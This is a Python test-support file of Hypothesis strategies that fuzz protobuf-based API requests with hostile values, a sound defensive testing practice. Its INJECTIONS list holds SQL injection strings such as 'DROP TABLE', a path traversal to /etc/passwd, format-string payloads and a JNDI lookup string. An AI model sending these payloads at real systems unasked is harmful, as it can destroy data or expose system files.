"""Hypothesis strategies that build any protobuf message from its descriptor, biased towards hostile input.

Strings mix injection payloads (SQL, filter, path traversal, format strings, NUL and control characters,
bidi overrides, very long runs), random unicode, valid-looking ids and names, and mutations of real
resource names; numbers include negatives and type extremes; enums include unknown values; timestamps
and durations go beyond their valid range. Nested messages, repeated fields and maps are generated
to a bounded depth and size so that one example stays cheap.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from typing import Any

from google.api import field_behavior_pb2
from google.protobuf import message_factory
from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from hypothesis import strategies as st

INJECTIONS: tuple[str, ...] = (
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE dataset_groups; --',
    "'); DROP TABLE campaigns; --",
    "1; DELETE FROM datasets",
    '" OR ITEM_ID != "',
    '") | INCLUDE ItemID WHERE Items.GENRES NOT IN ("',
    "EXCLUDE ItemID WHERE Items.GENRES IN ($GENRES)",
    'INCLUDE ItemID WHERE Interactions.EVENT_TYPE IN ("click") | EXCLUDE ItemID WHERE Items.PRICE > 1e308',
    "$GENRES",
    "\\",
    '"',
    "'",
    "`id`",
    "../../etc/passwd",
    "..",
    "/",
    "//",
    "%s%s%s%n",
    "{0}{1}{__class__}",
    "${jndi:ldap://x/a}",
    "\x00",
    "a\x00b",
    "\r\n\t\x1b[2J\x7f",
    "\u202eevil",
    "\ufeff",
    "名前🙂",
    " ",
    "%",
    "_",
    "*",
    "NaN",
    "-1",
    "1e999",
    "0x7fffffff",
    "operations/" + "9" * 40,
    "x" * 64,
    "a" * 5000,
)

_ID = r"[a-z][a-z0-9-]{0,62}"


def _mutate(name: str, payload: str, how: int) -> str:
    head, _, _ = name.rpartition("/")
    return [
        name + payload,
        payload + name,
        f"{head}/{payload}",
        name + "/",
        name.upper(),
        f"{name}/..",
        f"{head}/../{name}",
        name.replace("/", "//", 1),
        name + "/" + name,
        f" {name}",
    ][how % 10]


def strings(names: Sequence[str] = (), favoured: Sequence[str] = ()) -> st.SearchStrategy[str]:
    """Hostile strings, plus `names` (real resource names, `favoured` ones more often) and mutations of them."""
    options: list[st.SearchStrategy[str]] = [
        st.sampled_from(INJECTIONS),
        st.text(max_size=24),  # any unicode but surrogates, control characters and NUL included
        st.from_regex(_ID, fullmatch=True),
        st.builds(lambda c, n: c * n, st.characters(exclude_categories=["Cs"]), st.integers(60, 3000)),
        st.builds("".join, st.lists(st.sampled_from(INJECTIONS), min_size=2, max_size=4)),
    ]
    if names:
        options.append(st.sampled_from(list(names)))
        options.append(st.builds(_mutate, st.sampled_from(list(names)), st.sampled_from(INJECTIONS), st.integers(0, 9)))
    if favoured:
        options.append(st.sampled_from(list(favoured)))
    return st.one_of(options)


def _integers(bits: int, signed: bool) -> st.SearchStrategy[int]:
    low, high = (-(2 ** (bits - 1)), 2 ** (bits - 1) - 1) if signed else (0, 2**bits - 1)
    edges = [low, high, 0, 1, 2, 3, 5, 25, 100, 500, 501, 1000, 1001, 2**31 - 1, 2**32 - 1, -1, -2, -(2**31)]
    edges = sorted({e for e in edges if low <= e <= high})
    return st.one_of(st.sampled_from(edges), st.integers(low, high))


_SCALARS: dict[int, Callable[[], st.SearchStrategy[Any]]] = {
    FieldDescriptor.TYPE_INT32: lambda: _integers(32, True),
    FieldDescriptor.TYPE_SINT32: lambda: _integers(32, True),
    FieldDescriptor.TYPE_SFIXED32: lambda: _integers(32, True),
    FieldDescriptor.TYPE_INT64: lambda: _integers(64, True),
    FieldDescriptor.TYPE_SINT64: lambda: _integers(64, True),
    FieldDescriptor.TYPE_SFIXED64: lambda: _integers(64, True),
    FieldDescriptor.TYPE_UINT32: lambda: _integers(32, False),
    FieldDescriptor.TYPE_FIXED32: lambda: _integers(32, False),
    FieldDescriptor.TYPE_UINT64: lambda: _integers(64, False),
    FieldDescriptor.TYPE_FIXED64: lambda: _integers(64, False),
    FieldDescriptor.TYPE_DOUBLE: lambda: st.one_of(
        st.sampled_from([0.0, -0.0, 0.5, 1.0, -1.0, 1e-300, 1e308]), st.floats()
    ),
    FieldDescriptor.TYPE_FLOAT: lambda: st.floats(width=32),
    FieldDescriptor.TYPE_BOOL: st.booleans,
    FieldDescriptor.TYPE_BYTES: lambda: st.binary(max_size=64),
}

_SMALL: dict[int, st.SearchStrategy[Any]] = {
    FieldDescriptor.TYPE_INT32: st.integers(1, 12),
    FieldDescriptor.TYPE_INT64: st.integers(1, 12),
    FieldDescriptor.TYPE_DOUBLE: st.sampled_from([0.1, 0.5, 0.9]),
}

# Seconds of 0001-01-01 and 9999-12-31, the valid range of Timestamp; generate beyond it too.
_TIME_EDGES = [-62_135_596_800, 253_402_300_799, 0, -1, 1_700_000_000, 2**63 - 1, -(2**63), 10**12]


def _timelike(cls: type[Message], plausible: bool) -> st.SearchStrategy[Message]:
    seconds = st.one_of(st.sampled_from(_TIME_EDGES), st.integers(-(2**63), 2**63 - 1))
    nanos = st.one_of(st.sampled_from([0, 999_999_999, 1_000_000_000, -1]), _integers(32, True))
    hostile = st.builds(lambda s, n: cls(seconds=s, nanos=n), seconds, nanos)
    if not plausible:
        return hostile
    recent = st.builds(lambda s: cls(seconds=s), st.integers(1_600_000_000, 1_800_000_000))
    return st.one_of(recent, recent, recent, hostile)


def required(field: FieldDescriptor) -> bool:
    return field_behavior_pb2.REQUIRED in field.GetOptions().Extensions[field_behavior_pb2.field_behavior]


StringsFor = Callable[[FieldDescriptor], st.SearchStrategy[str]]


class MessageStrategies:
    """`for_message(descriptor)`: messages of that type; `strings_for(field)` picks each string field's values,
    `plausible` makes numbers mostly small and enums mostly known (so requests get past the first check)."""

    def __init__(
        self, strings_for: StringsFor, max_depth: int = 4, max_repeated: int = 3, plausible: bool = False
    ) -> None:
        self.strings_for = strings_for
        self.plausible = plausible
        self.max_depth = max_depth
        self.max_repeated = max_repeated
        self._cache: dict[tuple[str, int], st.SearchStrategy[Message]] = {}

    def for_message(self, descriptor: Descriptor, depth: int = 0) -> st.SearchStrategy[Message]:
        key = (descriptor.full_name, depth)
        if key not in self._cache:
            self._cache[key] = self._build(descriptor, depth)
        return self._cache[key]

    def _build(self, descriptor: Descriptor, depth: int) -> st.SearchStrategy[Message]:
        cls = message_factory.GetMessageClass(descriptor)
        if descriptor.full_name in ("google.protobuf.Timestamp", "google.protobuf.Duration"):
            return _timelike(cls, self.plausible)
        if depth >= self.max_depth:
            return st.just(cls())
        # Plausible requests always carry their REQUIRED fields.
        always = {f.name: self._field(f, depth) for f in descriptor.fields if self.plausible and required(f)}
        optional = {f.name: self._field(f, depth) for f in descriptor.fields if f.name not in always}
        return st.fixed_dictionaries(always, optional=optional).map(lambda values: _make(cls, descriptor, values))

    def _single(self, field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
        if field.message_type is not None:
            message = field.message_type
            return st.deferred(lambda: self.for_message(message, depth + 1))
        if field.type == FieldDescriptor.TYPE_STRING:
            return self.strings_for(field)
        if field.enum_type is not None:
            known = st.sampled_from([v.number for v in field.enum_type.values if v.number] or [0])
            unknown = st.sampled_from([0, -1, 99, 2**31 - 1, -(2**31)])
            return st.one_of(known, known, known, unknown) if self.plausible else st.one_of(known, unknown)
        if self.plausible and field.type in _SMALL:
            return st.one_of(_SMALL[field.type], _SMALL[field.type], _SCALARS[field.type]())
        return _SCALARS[field.type]()

    def _field(self, field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
        entry = field.message_type
        if entry is not None and entry.GetOptions().map_entry:
            keys = self._single(entry.fields_by_name["key"], depth)
            values = self._single(entry.fields_by_name["value"], depth)
            return st.dictionaries(keys, values, max_size=self.max_repeated)
        if field.is_repeated:
            return st.lists(self._single(field, depth), max_size=self.max_repeated)
        return self._single(field, depth)


def _make(cls: type[Message], descriptor: Descriptor, values: dict[str, Any]) -> Message:
    message = cls()
    for name, value in values.items():
        field = descriptor.fields_by_name[name]
        target = getattr(message, name)
        entry = field.message_type
        if entry is not None and entry.GetOptions().map_entry:
            for k, v in value.items():
                if isinstance(v, Message):
                    target[k].CopyFrom(v)
                else:
                    target[k] = v
        elif field.is_repeated:
            for v in value:
                if isinstance(v, Message):
                    target.add().CopyFrom(v)
                else:
                    target.append(v)
        elif isinstance(value, Message):
            target.CopyFrom(value)
        else:
            setattr(message, name, value)
    return message


def string_values(message: Message) -> list[str]:
    """Every string held anywhere in `message` (fields, repeated fields, map keys and values)."""
    out: list[str] = []
    for field, value in message.ListFields():
        entry = field.message_type
        if entry is not None and entry.GetOptions().map_entry:
            items = list(value.items())
            out.extend(k for k, _ in items if isinstance(k, str))
            for _, v in items:
                out.extend(string_values(v) if isinstance(v, Message) else [v] if isinstance(v, str) else [])
            continue
        for v in value if field.is_repeated else [value]:
            if isinstance(v, Message):
                out.extend(string_values(v))
            elif isinstance(v, str):
                out.append(v)
    return out


_SEGMENT = re.compile(r"([A-Za-z_][A-Za-z0-9_]*)")
_INDEX = re.compile(r"\[\d+\]")
_DYNAMIC = ("google.protobuf.Struct", "google.protobuf.Value", "google.protobuf.ListValue")


def field_path_exists(descriptor: Descriptor, path: str) -> bool:
    """Whether a BadRequest field path ("a.b[3].c", "labels[key]", "x.properties.KEY") names a field of the message.

    A path may go on below a string field whose name ends in "_uri" ("import_job.source_uri.header[2]"): it
    names a place in the file that URI names.
    """
    rest = path
    while True:
        match = _SEGMENT.match(rest)
        if match is None:
            return False
        field = descriptor.fields_by_name.get(match.group(1))
        if field is None:
            return False
        rest = rest[match.end() :]
        entry = field.message_type
        if entry is not None and (entry.GetOptions().map_entry or entry.full_name in _DYNAMIC):
            return True  # what follows is a key: data, not a field name
        if field.is_repeated and (index := _INDEX.match(rest)):
            rest = rest[index.end() :]
        if not rest:
            return True
        if entry is None and field.name.endswith("_uri") and rest.startswith("."):
            return True
        if entry is None or not rest.startswith("."):
            return False
        descriptor, rest = entry, rest[1:]
